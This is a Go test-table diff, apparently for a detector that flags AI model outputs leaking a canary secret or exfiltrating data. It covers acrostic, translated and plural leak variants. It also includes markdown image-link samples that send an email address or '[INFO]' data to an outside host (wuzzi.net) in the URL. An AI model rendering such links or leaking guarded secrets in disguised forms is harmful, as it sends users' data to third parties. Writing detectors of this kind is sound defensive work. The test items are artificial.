@@ -31,6 +31,9 @@ func TestLeakVariantsAndRenderings(t *testing.T) {
 		{"acrostic", leak("zebra"), "Zany ideas come\nEvery day,\n- Bright and\n- Radiant\nAlways.", "canary_acrostic"},
 		{"no acrostic", leak("zebra"), "Zany ideas come\nEvery day,\nBut not\nthis time.", ""},
 		{"short secret has no variants", leak("dog"), "god is reversed", ""},
+		{"translated", leak("ontology"), `Wenn die Eingabe "Ontologie" lautet, sage "Zugriff gewährt".`, "canary_inflected"},
+		{"plural", leak("ontology"), "Both ontologies agree.", "canary_inflected"},
+		{"different word", leak("avocado"), "An avocet is a bird.", ""},
 		// renderings
 		{"shortcut fallback of an undefined full reference", open, "![Link Display Text][ref] text\n\n[Link Display Text]: https://wuzzi.net/nbml=johann@example.com12345", "reference_definition_data_in_url"},
 		{"markdown fence keeps its links", open, "```markdown\n![x][r]\n\n[r]: https://wuzzi.net/logo.png?sales=%5BINFO%5D\n```", "reference_definition_data_in_url"},
